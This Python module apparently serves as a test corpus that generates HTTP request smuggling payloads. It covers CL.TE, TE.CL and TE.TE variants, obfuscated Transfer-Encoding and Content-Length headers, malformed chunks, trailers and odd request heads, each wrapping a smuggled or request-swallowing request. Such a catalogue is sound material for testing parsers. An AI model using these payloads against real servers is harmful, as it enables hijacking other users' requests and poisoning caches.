"""The known ways to make two servers disagree on where a request ends.

Each row is the bytes that an attacker sends on one connection. In them stands, where one of two
readers might take it for a request, one of two things: a whole request for the record `smuggled`,
or the beginning of one that would swallow the next client's request.
"""

from dataclasses import dataclass

WHOLE = b"GET /v1/events/smuggled HTTP/1.1\r\nHost: a\r\nX-Request-Id: smuggled\r\n\r\n"
BEGUN = b"GET /v1/events/smuggled HTTP/1.1\r\nX-Swallows: "


@dataclass
class Row:
    """One attack."""

    family: str
    name: str
    bytes: bytes
    # Whether what is smuggled in is whole, so that its answer can be told from the next one's.
    whole: bool


def post(fields: bytes, body: bytes, version: bytes = b"HTTP/1.1") -> bytes:
    head = b"POST /v1/events/victim/nowhere " + version + b"\r\nHost: a\r\n"
    return head + b"Content-Type: application/json\r\n" + fields + b"\r\n\r\n" + body


def length(body: bytes, more: int = 0) -> bytes:
    return b"Content-Length: %d" % (len(body) + more)


def chunk(content: bytes) -> bytes:
    return b"%x\r\n%s\r\n" % (len(content), content)


# Spellings of Transfer-Encoding that one server may take for chunked and another may not.
CODINGS = {
    "unknown": b"Transfer-Encoding: xchunked",
    "space before the colon": b"Transfer-Encoding : chunked",
    "tab before the colon": b"Transfer-Encoding\t: chunked",
    "tab": b"Transfer-Encoding:\tchunked",
    "no space": b"Transfer-Encoding:chunked",
    "two spaces": b"Transfer-Encoding:  chunked  ",
    "vertical tab": b"Transfer-Encoding: \x0bchunked",
    "form feed behind": b"Transfer-Encoding: chunked\x0c",
    "upper case": b"TRANSFER-ENCODING: CHUNKED",
    "mixed case": b"tRANSFER-eNCODING: cHuNkEd",
    "underscore": b"Transfer_Encoding: chunked",
    "quoted": b'Transfer-Encoding: "chunked"',
    "parameter": b"Transfer-Encoding: chunked;q=1",
    "comma behind": b"Transfer-Encoding: chunked,",
    "comma before": b"Transfer-Encoding: ,chunked",
    "identity first": b"Transfer-Encoding: identity, chunked",
    "identity last": b"Transfer-Encoding: chunked, identity",
    "gzip first": b"Transfer-Encoding: gzip, chunked",
    "chunked twice": b"Transfer-Encoding: chunked, chunked",
    "two lines": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked",
    "two lines, other last": b"Transfer-Encoding: chunked\r\nTransfer-Encoding: x",
    "two lines, other first": b"Transfer-Encoding: x\r\nTransfer-Encoding: chunked",
    "two lines, empty first": b"Transfer-Encoding:\r\nTransfer-Encoding: chunked",
    "folded value": b"Transfer-Encoding:\r\n chunked",
    "folded into another": b"X-One: y\r\n Transfer-Encoding: chunked",
    "folded behind": b"Transfer-Encoding: chunked\r\n\tx",
    "bare LF before": b"X-One: y\nTransfer-Encoding: chunked",
    "bare CR before": b"X-One: y\rTransfer-Encoding: chunked",
    "bare LF in the name": b"Transfer-Encoding\n: chunked",
    "bare CR behind": b"Transfer-Encoding: chunked\r",
    "NUL behind": b"Transfer-Encoding: chunked\x00",
    "NUL in the name": b"Transfer-Encoding\x00: chunked",
    "no-break space": b"Transfer-Encoding:\xa0chunked",
    "high byte behind": b"Transfer-Encoding: chunked\xff",
    "listed in Connection": b"Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked",
    "plain": b"Transfer-Encoding: chunked",
}

# Spellings of Content-Length; {n} is the right number.
LENGTHS = {
    "plus": b"Content-Length: +{n}",
    "minus": b"Content-Length: -{n}",
    "hexadecimal": b"Content-Length: 0x{n}",
    "zeros": b"Content-Length: 0000{n}",
    "list": b"Content-Length: {n}, {n}",
    "list of two": b"Content-Length: 0, {n}",
    "twice": b"Content-Length: {n}\r\nContent-Length: {n}",
    "zero first": b"Content-Length: 0\r\nContent-Length: {n}",
    "zero last": b"Content-Length: {n}\r\nContent-Length: 0",
    "space before the colon": b"Content-Length : {n}",
    "underscore": b"Content_Length: {n}",
    "tab": b"Content-Length:\t{n}",
    "semicolon": b"Content-Length: {n};",
    "space within": b"Content-Length: {n} 0",
    "fraction": b"Content-Length: {n}.0",
    "exponent": b"Content-Length: 0e{n}",
    "beyond 64 bits": b"Content-Length: 18446744073709551616",
    "folded": b"Content-Length:\r\n {n}",
    "empty first": b"Content-Length:\r\nContent-Length: {n}",
    "bare LF before": b"X-One: y\nContent-Length: {n}",
    "bare CR before": b"X-One: y\rContent-Length: {n}",
    "NUL behind": b"Content-Length: {n}\x00",
    "listed in Connection": b"Connection: Content-Length\r\nContent-Length: {n}",
}

# Sizes, extensions and ends of chunks; {s} stands for what is smuggled.
CHUNKS = {
    "size 0x": b"0x0\r\n\r\n{s}",
    "size +0": b"+0\r\n\r\n{s}",
    "size -0": b"-0\r\n\r\n{s}",
    "size with a space": b"0 \r\n\r\n{s}",
    "space before a size": b" 0\r\n\r\n{s}",
    "size with an underscore": b"1_0\r\n0123456789abcdef\r\n0\r\n\r\n{s}",
    "size of 17 digits": b"10000000000000000\r\n{s}",
    "size of 64 bits": b"ffffffffffffffff\r\n{s}",
    "many zeros": b"00000000000000000000\r\n\r\n{s}",
    "empty size": b"\r\n\r\n{s}",
    "bare LF behind the size": b"1\na\r\n0\r\n\r\n{s}",
    "bare CR behind the size": b"1\ra\r\n0\r\n\r\n{s}",
    "bare LF behind the content": b"1\r\na\n0\r\n\r\n{s}",
    "bare LF behind the last chunk": b"0\n\n{s}",
    "bare LF at the end": b"0\r\n\n{s}",
    "two bytes for an end": b"1\r\naXX0\r\n\r\n{s}",
    "no end of the content": b"1\r\na0\r\n\r\n{s}",
    "content too long": b"1\r\nabc\r\n0\r\n\r\n{s}",
    "extension": b"1;a=b\r\na\r\n0;c\r\n\r\n{s}",
    "empty extension": b"1;\r\na\r\n0;\r\n\r\n{s}",
    "space in an extension": b"1 ; a = b\r\na\r\n0\r\n\r\n{s}",
    "bare LF in an extension": b"2;\nxx\r\n%x\r\n0\r\n\r\n{s}" % 0x37,
    "bare CR in an extension": b"1;a\rb\r\na\r\n0\r\n\r\n{s}",
    "quoted line end in an extension": b'1;a="\r\nb"\r\na\r\n0\r\n\r\n{s}',
    "quoted bare LF in an extension": b'1;a="\nb"\r\na\r\n0\r\n\r\n{s}',
    "open quote in an extension": b'1;a="\r\na\r\n0\r\n\r\n{s}',
    "NUL in an extension": b"1;a\x00\r\na\r\n0\r\n\r\n{s}",
    "long extension": b"1;" + b"x" * 9000 + b"\r\na\r\n0\r\n\r\n{s}",
    "trailer": b"0\r\nX-One: y\r\n\r\n{s}",
    "framing in the trailer": b"0\r\nTransfer-Encoding: chunked\r\nContent-Length: 60\r\n\r\n{s}",
    "Host in the trailer": b"0\r\nHost: b\r\n\r\n{s}",
    "request for a trailer": b"0\r\n{s}",
    "folded trailer": b"0\r\nX-One: y\r\n {s}",
    "bare LF in the trailer": b"0\r\nX-One: y\n\n{s}",
    "trailer without a colon": b"0\r\nX-One\r\n\r\n{s}",
    "cut off": b"0\r\n{s}",
}

# Whole heads; {s} stands for what is smuggled, {n} for its length.
HEADS = {
    "1.0": {
        "chunked": b"POST /v1/events HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
        "chunked with a length": b"POST /v1/events HTTP/1.0\r\nHost: a\r\nConnection: keep-alive\r\n"
        b"Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
        "no body": b"GET /v1/events/mark-0 HTTP/1.0\r\nConnection: keep-alive\r\n\r\n{s}",
        "version 1.01": b"GET /v1/events/mark-0 HTTP/1.01\r\nHost: a\r\n\r\n{s}",
        "version 1.9": b"GET /v1/events/mark-0 HTTP/1.9\r\nHost: a\r\n\r\n{s}",
        "version 0.9": b"GET /v1/events/mark-0\r\n{s}",
        "version 2.0": b"GET /v1/events/mark-0 HTTP/2.0\r\nHost: a\r\n\r\n{s}",
    },
    "CL.0": {
        method: method.encode() + b" /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n"
        b"Content-Length: {n}\r\n\r\n{s}"
        for method in ("GET", "HEAD", "DELETE", "OPTIONS", "POST", "PATCH", "TRACE", "BREW", "get")
    },
    "Expect": {
        "body at once": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n"
        b"Content-Length: {n}\r\n\r\n{s}",
        "of GET": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n"
        b"Content-Length: {n}\r\n\r\n{s}",
        "unknown": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nExpect: y 100-continue\r\n"
        b"Content-Length: {n}\r\n\r\n{s}",
        "twice": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n"
        b"Expect: 100-continue\r\nContent-Length: {n}\r\n\r\n{s}",
        "chunked": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n"
        b"Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
        "no body": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nExpect: 100-continue\r\n\r\n{s}",
        "bare LF before": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nX-One: y\nExpect: 100-continue"
        b"\r\nContent-Length: {n}\r\n\r\n{s}",
    },
    "host": {
        "absolute form": b"GET http://b/v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "absolute form, userinfo": b"GET http://a@b/v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "absolute form, space": b"GET http://a /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "absolute form, no host": b"GET http:///v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "two": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n{s}",
        "list": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a, b\r\n\r\n{s}",
        "folded": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n b\r\n\r\n{s}",
        "space before the colon": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost : a\r\n\r\n{s}",
        "none": b"GET /v1/events/mark-0 HTTP/1.1\r\n\r\n{s}",
        "CONNECT": b"CONNECT a:80 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "listed in Connection": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n"
        b"Connection: close, Host\r\n\r\n{s}",
    },
    "line ends": {
        "bare LF": b"GET /v1/events/mark-0 HTTP/1.1\nHost: a\n\n{s}",
        "bare LF at the end": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\n{s}",
        "two CR": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\r\n\r\n{s}",
        "bare CR at the end": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r{s}",
        "empty lines before": b"\r\n\r\n\r\nGET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "folded first field": b"GET /v1/events/mark-0 HTTP/1.1\r\n Host: a\r\nHost: a\r\n\r\n{s}",
        "line end in the target": b"GET /v1/events/mark-0\r\n HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "encoded line end in the target": b"GET /v1/events/mark-0%0d%0aX:%20y HTTP/1.1\r\n"
        b"Host: a\r\n\r\n{s}",
        "tabs in the request line": b"GET\t/v1/events/mark-0\tHTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "three spaces": b"GET   /v1/events/mark-0   HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "NUL in a value": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nX: a\x00b\r\n\r\n{s}",
        "line without a colon": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nXY\r\n\r\n{s}",
        "empty name": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n: y\r\n\r\n{s}",
    },
    "answers": {
        "HEAD": b"HEAD /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "304": b'GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nIf-None-Match: "1"\r\n\r\n{s}',
        "OPTIONS *": b"OPTIONS * HTTP/1.1\r\nHost: a\r\n\r\n{s}",
        "websocket": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade\r\n"
        b"Upgrade: websocket\r\nSec-WebSocket-Version: 13\r\n"
        b"Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n\r\n{s}",
        "h2c": b"GET /v1/events/mark-0 HTTP/1.1\r\nHost: a\r\nConnection: Upgrade, HTTP2-Settings\r\n"
        b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n{s}",
        "404 before a long body": b"POST /nowhere HTTP/1.1\r\nHost: a\r\nContent-Length: 300000"
        b"\r\n\r\n" + b" " * 200000 + b"{s}",
        "413 before a long body": b"POST /v1/events HTTP/1.1\r\nHost: a\r\n"
        b"Content-Type: application/json\r\nContent-Length: 900000000\r\n\r\n" + b" " * 9000 + b"{s}",
        "415 before a body": b"POST /v1/events HTTP/1.1\r\nHost: a\r\nContent-Type: text/plain\r\n"
        b"Content-Length: 70000\r\n\r\n" + b" " * 5000 + b"{s}",
    },
}


def rows() -> list[Row]:
    """All attacks, each with both payloads."""
    found = []
    for whole, payload in ((True, WHOLE), (False, BEGUN)):
        size = b"%d" % len(payload)

        def add(family: str, name: str, text: bytes) -> None:
            name += "" if whole else ", begun"
            found.append(Row(family, name, text, whole))

        for name, coding in CODINGS.items():
            body = b"0\r\n\r\n" + payload
            add("CL.TE", name, post(length(body) + b"\r\n" + coding, body))
            add("CL.TE", name + ", length last", post(coding + b"\r\n" + length(body), body))
            body = chunk(payload) + b"0\r\n\r\n"
            prefix = b"Content-Length: %d" % (body.index(b"\n") + 1)
            add("TE.CL", name, post(prefix + b"\r\n" + coding, body))
            add("TE.TE", name, post(coding, b"0\r\n\r\n" + payload))
        for name, spelling in LENGTHS.items():
            add("lengths", name, post(spelling.replace(b"{n}", size), payload))
        for name, body in CHUNKS.items():
            text = body.replace(b"{s}", payload)
            add("chunks", name, post(b"Transfer-Encoding: chunked", text))
        for family, heads in HEADS.items():
            for name, text in heads.items():
                add(family, name, text.replace(b"{n}", size).replace(b"{s}", payload))
    return found
